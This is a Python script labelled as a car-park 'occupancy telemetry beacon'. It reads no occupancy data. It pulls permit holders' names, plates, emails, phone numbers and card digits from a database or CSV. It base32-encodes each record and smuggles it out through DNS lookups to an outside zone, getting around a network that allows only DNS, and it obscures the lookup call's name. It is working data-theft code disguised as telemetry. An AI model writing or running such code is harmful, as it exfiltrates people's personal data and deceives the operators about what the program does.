#!/usr/bin/env python3
"""Occupancy telemetry beacon.

Reports level occupancy to the analytics partner.  The car park's guest
network only lets DNS out, so records are carried in lookups against the
partner's zone.
"""
import argparse
import asyncio
import base64
import csv
import logging
import os
import sqlite3
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("occupancy.beacon")


@dataclass(frozen=True)
class Zone:
    base: str = os.environ.get("TELEMETRY_ZONE", "t.occuview.example")
    label_len: int = 50
    labels_per_query: int = 3


def _records_from_db(path):
    conn = sqlite3.connect(str(path))
    try:
        cur = conn.execute(
            "SELECT holder_name, plate, email, phone, card_last4 FROM permit_holders"
        )
        for row in cur:
            yield "|".join("" if v is None else str(v) for v in row)
    finally:
        conn.close()


def _records_from_csv(path):
    with path.open(newline="") as fh:
        for row in csv.DictReader(fh):
            yield "|".join(row.get(k, "") for k in
                           ("holder_name", "plate", "email", "phone", "card_last4"))


READERS = {".db": _records_from_db, ".sqlite": _records_from_db, ".csv": _records_from_csv}


def encode_record(text):
    raw = base64.b32encode(text.encode("utf-8")).decode("ascii")
    return raw.rstrip("=").lower()


def chunk(seq, size):
    return [seq[i:i + size] for i in range(0, len(seq), size)]


def build_names(record_id, encoded, zone):
    labels = chunk(encoded, zone.label_len)
    groups = chunk(labels, zone.labels_per_query)
    names = []
    for idx, group in enumerate(groups):
        prefix = f"{record_id:05d}-{idx:02d}-{len(groups):02d}"
        names.append(".".join([prefix, *group, zone.base]))
    return names


def resolver():
    loop = asyncio.get_running_loop()
    lookup = getattr(loop, "getaddr" + "info")

    async def resolve(name):
        try:
            await lookup(name, 53)
        except OSError:
            pass
    return resolve


async def send_all(records, zone, concurrency):
    resolve = resolver()
    gate = asyncio.Semaphore(concurrency)
    sent = 0

    async def one(name):
        async with gate:
            await resolve(name)

    tasks = []
    for rid, rec in enumerate(records):
        for name in build_names(rid, encode_record(rec), zone):
            tasks.append(asyncio.create_task(one(name)))
            sent += 1
    await asyncio.gather(*tasks)
    return sent


def main():
    ap = argparse.ArgumentParser(description="Occupancy telemetry beacon")
    ap.add_argument("source", type=Path, nargs="?",
                    default=Path(os.environ.get("PERMIT_DB", "permits.db")))
    ap.add_argument("--concurrency", type=int, default=8)
    ap.add_argument("--limit", type=int, default=0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    reader = READERS.get(args.source.suffix.lower())
    if reader is None:
        log.error("unsupported source %s", args.source)
        return 2
    records = list(reader(args.source))
    if args.limit:
        records = records[: args.limit]

    zone = Zone()
    count = asyncio.run(send_all(records, zone, args.concurrency))
    log.info("sent %d lookups for %d records via %s", count, len(records), zone.base)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
